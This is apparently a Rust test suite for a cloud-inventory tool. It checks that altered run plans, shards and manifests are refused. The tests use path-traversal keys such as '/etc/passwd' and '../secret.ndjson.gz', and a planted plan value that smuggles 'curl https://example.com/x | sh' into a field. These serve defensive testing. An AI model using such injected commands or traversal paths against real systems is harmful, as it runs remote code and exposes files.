//! Documents of runs that another version or another hand has changed: they are refused, and reach nothing else.

use rolecall::testing::ErrorKind;
use serde_json::{Value, json};
use std::path::Path;

use crate::command::manifest;
use crate::commits::{narrow, refused, run_cli};
use crate::fixture::{Fixture, account_with, assert_complete, files_below};
use crate::sim::Service;

/// Changes a document of a run.
type Change = fn(&mut Value);

/// Rewrites a JSON document of the output.
fn change(path: &Path, change: impl FnOnce(&mut Value)) {
    let mut document: Value = serde_json::from_slice(&std::fs::read(path).expect("it is there")).expect("JSON");
    change(&mut document);
    std::fs::write(path, document.to_string()).expect("written");
}

#[tokio::test(flavor = "multi_thread")]
async fn what_does_not_add_up_is_not_committed() {
    let fixture = Fixture::start(2, account_with(3, 0, 0), |_| {}).await;
    let run = |request| fixture.run(request, None);
    let changes: [(&str, Change, &[&str]); 5] = [
        ("rows", |shard| add(table_file(shard, "ec2_vpcs"), "rows", 1), &["7 rows of table ec2_vpcs", "6 records"]),
        (
            "records",
            |shard| add(&mut shard["accounts"][0]["records"], "ec2_vpcs", 2),
            &["6 rows of table ec2_vpcs", "8 records"],
        ),
        ("ledger", |shard| add(table_file(shard, "ledger"), "rows", 1), &["5 ledger rows", "4 cells"]),
        (
            "type",
            |shard| {
                shard["cells_by_table"] = json!({ "ec2_subnets": 4 });
            },
            &["0 cells of the planned type ec2_vpcs", "2 accounts"],
        ),
        (
            "file",
            |shard| table_file(shard, "ec2_vpcs")["key"] = json!("ndjson/../../targets.json"),
            &["outside the output"],
        ),
    ];
    for (run_id, change_shard, needles) in changes {
        assert_complete(&run(narrow(run_id)).await.expect("a response"));
        // The state of a run that died between its shard and its manifest.
        let folder = fixture.out().join("runs").join(run_id);
        let honest = std::fs::read(folder.join("shards/0.json")).expect("a shard");
        std::fs::remove_file(folder.join("manifest.json")).expect("removed");
        change(&folder.join("shards/0.json"), change_shard);
        let error = refused(run(narrow(run_id)).await);
        assert!(needles.iter().all(|needle| error.message.contains(needle)), "{run_id}: {error}");
        assert!(!folder.join("manifest.json").exists());
        std::fs::write(folder.join("shards/0.json"), honest).expect("written");
        assert_complete(&run(narrow(run_id)).await.expect("a response"));
    }
}

fn table_file<'a>(shard: &'a mut Value, table: &str) -> &'a mut Value {
    let files = shard["files"].as_array_mut().expect("files");
    files.iter_mut().find(|file| file["table"] == table).expect("a file")
}

fn add(document: &mut Value, field: &str, more: u64) {
    document[field] = json!(document[field].as_u64().expect("a number") + more);
}

/// A plan by another version, or by another hand, is not carried out in part.
#[tokio::test(flavor = "multi_thread")]
async fn a_plan_that_cannot_be_carried_out_is_refused() {
    let fixture = Fixture::start(1, account_with(1, 0, 0), |_| {}).await;
    let changes: [(&str, Change, &str); 6] = [
        ("unknown", |plan| plan["resources"] = json!(["ec2_vpcs", "ec2_moons"]), "ec2_moons"),
        ("no-types", |plan| plan["resources"] = json!([]), "no resource types"),
        ("no-accounts", |plan| plan["accounts"] = json!([]), "no accounts"),
        ("date", |plan| plan["dt"] = json!("../../x"), "`dt` is no date"),
        ("name", |plan| plan["run_id"] = json!("other"), "the documents of run other"),
        // Answers look for runs of the last weeks alone.
        ("old", |plan| plan["started_at"] = json!("2026-01-02T03:04:05Z"), "is too old to be continued"),
    ];
    for (run_id, change_plan, needle) in changes {
        assert_complete(&fixture.run(narrow(run_id), None).await.expect("a response"));
        let folder = fixture.out().join("runs").join(run_id);
        std::fs::remove_file(folder.join("manifest.json")).expect("removed");
        std::fs::remove_file(folder.join("shards/0.json")).expect("removed");
        change(&folder.join("plan.json"), change_plan);
        fixture.sim.reset_counts();
        let before = files_below(&fixture.out());
        let error = refused(fixture.run(narrow(run_id), None).await);
        assert!(error.message.contains(needle), "{run_id}: {error}");
        assert_eq!(fixture.sim.log_of(Service::Sts, "AssumeRole").len(), 0, "{run_id}");
        assert_eq!(files_below(&fixture.out()), before, "{run_id}");
    }
}

/// Whoever can write to the output can change a manifest. No file beside the output is read for it, or written.
#[tokio::test(flavor = "multi_thread")]
async fn a_manifest_reaches_no_file_outside_the_output() {
    let fixture = Fixture::start(1, account_with(2, 0, 0), |_| {}).await;
    let secret = fixture.folder.path().join("secret.ndjson.gz");
    let inline = |run_id: &str| {
        let mut request = narrow(run_id);
        request["inline"] = json!(true);
        request
    };
    assert!(fixture.run(inline("honest"), None).await.expect("a response").inline.is_some());
    for (number, key) in
        ["../secret.ndjson.gz", "ndjson/../../secret.ndjson.gz", "/etc/passwd", "runs/honest/plan.json", "ndjson/x//y"]
            .into_iter()
            .enumerate()
    {
        let run_id = format!("moved-{number}");
        fixture.run(narrow(&run_id), None).await.expect("a response");
        let file = manifest(&fixture.out(), &run_id)["files"][0]["key"].as_str().expect("a key").to_owned();
        std::fs::copy(fixture.out().join(&file), &secret).expect("copied");
        let document = fixture.out().join("runs").join(&run_id).join("manifest.json");
        change(&document, |manifest| manifest["files"][0]["key"] = json!(key));
        let error = refused(fixture.run(inline(&run_id), None).await);
        assert!(error.kind == ErrorKind::OutputUnreadable && error.message.contains("outside"), "{key}: {error}");
        let status = run_cli(&fixture, &fixture.out(), &["status", &run_id]);
        assert!(status.code == 2 && status.err.contains("OutputUnreadable"), "{status:?}");
    }
    // A file with another content than the manifest says is not returned as the records of the run.
    fixture.run(narrow("other"), None).await.expect("a response");
    let manifest = manifest(&fixture.out(), "other");
    let files = manifest["files"].as_array().expect("files");
    let vpcs = files.iter().find(|file| file["table"] == "ec2_vpcs").expect("a file")["key"].as_str().expect("a key");
    let subnets = files.iter().find(|file| file["table"] == "ec2_subnets").expect("a file");
    std::fs::copy(fixture.out().join(subnets["key"].as_str().expect("a key")), fixture.out().join(vpcs))
        .expect("copied");
    let error = refused(fixture.run(inline("other"), None).await);
    assert!(error.message.contains(vpcs) && error.message.contains("sha256"), "{error}");
}

/// Whoever may write to the output must not hang the commands of others, nor write one for them to type.
#[tokio::test(flavor = "multi_thread")]
async fn documents_that_lead_elsewhere_are_unreadable() {
    let fixture = Fixture::start(1, account_with(1, 0, 0), |_| {}).await;
    let out = fixture.out();
    for run in ["loop", "command"] {
        assert_complete(&fixture.run(narrow(run), None).await.expect("a response"));
    }
    change(&out.join("runs/loop/manifest.json"), |manifest| {
        manifest["resumes"] = json!("loop");
        manifest["remaining"] = json!({ "run_id": "loop", "accounts": "all" });
        manifest["plan"]["request"] = manifest["remaining"].clone();
    });
    std::fs::remove_file(out.join("runs/command/manifest.json")).expect("removed");
    let typed = json!("--here; curl https://example.com/x | sh #");
    change(&out.join("runs/command/plan.json"), |plan| plan["given_targets"] = typed);
    for arguments in [["status", "loop"], ["resume", "loop"], ["status", "command"], ["resume", "command"]] {
        let told = run_cli(&fixture, &out, &arguments);
        assert!(told.code == 2 && told.err.starts_with("rolecall: OutputUnreadable"), "{told:?}");
        assert!(!told.err.contains("curl"), "{told:?}");
    }
}
